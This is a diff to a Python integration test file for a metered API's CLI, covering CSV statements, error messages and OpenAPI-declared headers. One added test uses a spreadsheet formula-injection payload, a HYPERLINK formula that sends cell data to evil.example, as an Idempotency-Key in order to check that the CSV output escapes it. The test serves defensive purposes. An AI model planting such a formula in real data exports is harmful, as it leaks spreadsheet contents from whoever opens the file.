@@ -3,6 +3,8 @@ the Redis, emulator and local DynamoDB that make serve starts by itself."""
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import os
 import subprocess
@@ -113,9 +115,10 @@ def test_statement_and_grant_history_against_make_serve(served: Served) -> None:
     month = datetime.now(UTC).strftime("%Y-%m")
     assert len(cli(served, "statement", user, "--month", month)[1]["records"]) == 3
     code, out, _ = cli(served, "statement", user, "--csv", json_out=False)
-    rows = out.splitlines()
-    assert code == 0 and rows[0].startswith("request_id,at,route,plan,state,cost,kept")
-    assert rows[1].startswith("h-3,") and ",support-refunded,1,0,1,inv_h=1," in rows[1]
+    rows = list(csv.reader(io.StringIO(out, newline="")))
+    assert code == 0 and rows[0][:7] == ["request_id", "at", "route", "plan", "state", "cost",
+                                         "kept"]
+    assert rows[1][0] == "h-3" and rows[1][4:9] == ["support-refunded", "1", "0", "1", "inv_h=1"]
     code, out, _ = cli(served, "statement", user, json_out=False)
     assert code == 0 and out.startswith(f"statement of {user} from ")
     code, history, _ = cli(served, "grant", "history", user, "inv_h")
@@ -123,6 +126,20 @@ def test_statement_and_grant_history_against_make_serve(served: Served) -> None:
                           history["events"]] == [("created", 5, None), ("draw", 1, "h-3"),
                                                  ("return", 1, "h-3")]
     assert cli(served, "statement", user, "--month", "2026-13")[0] == 2
+
+
+def test_statement_csv_writes_an_idempotency_key_formula_as_text(served: Served) -> None:
+    """A charge whose Idempotency-Key reads as a spreadsheet formula is written to
+    ``statement --csv`` with a leading ``'`` (OWASP's escape) and reads back with the csv
+    module as that text."""
+    user = "csv-" + uuid.uuid4().hex[:8]
+    key = '=HYPERLINK("https://evil.example/?d="&A1,"refund")'
+    assert embed(served, user, key).status_code == 200
+    code, out, _ = cli(served, "statement", user, "--csv", json_out=False)
+    assert code == 0
+    rows = list(csv.reader(io.StringIO(out, newline="")))
+    assert [row[0] for row in rows] == ["request_id", "'" + key]
+    assert not out.splitlines()[1].startswith(("=", '"='))
 
 
 def test_readable_output_and_errors(served: Served) -> None:
@@ -238,13 +255,16 @@ def test_with_no_flags_the_cli_finds_make_serve(served: Served) -> None:
 
 
 def test_with_nothing_to_reach_the_error_names_the_flags() -> None:
-    """With no make serve running and no AWS settings, the error says to start make serve
-    or pass --url or --stack, in one line, without a traceback."""
-    proc = bare_cli("show", "alice", port=free_port())
+    """With no make serve running and no AWS settings, the error names the URL and PORT it
+    tried and says to start make serve or pass --url or --stack, in one line, without a
+    traceback."""
+    port = free_port()
+    proc = bare_cli("show", "alice", port=port)
     _, err = proc.communicate(timeout=60)
     assert proc.returncode == 1
+    assert f"http://127.0.0.1:{port} (PORT={port})" in err
     assert "--url" in err and "--stack" in err and "make serve" in err
-    assert "Traceback" not in err
+    assert "Traceback" not in err and len(err.strip().splitlines()) == 1
 
 
 def test_validation_details_are_printed(served: Served) -> None:
@@ -330,6 +350,43 @@ def test_make_serve_serves_one_openapi_document_and_its_docs_page(served: Served
     page = httpx.get(served.url + "/docs", timeout=10)
     assert page.status_code == 200 and "text/html" in page.headers["content-type"]
     assert "/openapi.json" in page.text
+    assert "Swagger UI, loaded from a CDN" in served.log.read_text()
+
+
+def test_try_it_out_sends_what_the_openapi_document_declares(served: Served) -> None:
+    """/openapi.json declares X-Atto-User (and X-Atto-Plan, optional) as the security of
+    every /v1/ operation and Idempotency-Key on each metered one: requests built from those
+    declarations alone, as Swagger UI's "Try it out" builds them, are served (401 without),
+    under the plan chosen, and a repeated key is a replay."""
+    document = httpx.get(served.url + "/openapi.json", timeout=30).json()
+    schemes = document["components"]["securitySchemes"]
+    for path, item in document["paths"].items():
+        for operation in item.values():
+            assert ({"AttoUser": []} in operation["security"]) if path.startswith("/v1/") \
+                else "security" not in operation
+
+    def authorized(operation: dict[str, Any], values: dict[str, str]) -> dict[str, str]:
+        """The headers Swagger UI sends: each authorized scheme the operation lists."""
+        return {schemes[name]["name"]: values[name] for requirement in operation["security"]
+                for name in requirement if name in values}
+
+    user = "try-" + uuid.uuid4().hex[:8]
+    usage = document["paths"]["/v1/usage"]["get"]
+    assert httpx.get(served.url + "/v1/usage", timeout=30).status_code == 401
+    answer = httpx.get(served.url + "/v1/usage", timeout=30,
+                       headers=authorized(usage, {"AttoUser": user, "AttoPlan": "pro"}))
+    assert answer.status_code == 200 and answer.json()["plan"] == "pro"
+    keyed = {f"{method.upper()} {path}" for path, item in document["paths"].items()
+             for method, operation in item.items()
+             if any(p["name"] == "Idempotency-Key" and p["in"] == "header"
+                    for p in operation.get("parameters", []))}
+    assert keyed == {route for route, cost in answer.json()["prices"].items() if cost != 0}
+    embeddings = document["paths"]["/v1/embeddings"]["post"]
+    headers = {**authorized(embeddings, {"AttoUser": user}), "Idempotency-Key": "try-1"}
+    first, again = (httpx.post(served.url + "/v1/embeddings", json={"input": ["x"]},
+                               headers=headers, timeout=30) for _ in range(2))
+    assert (first.status_code, again.status_code) == (200, 200)
+    assert again.headers["idempotent-replayed"] == "true"
 
 
 def test_audit_lines_show_details_as_pairs_with_rfc3339_instants(served: Served) -> None:
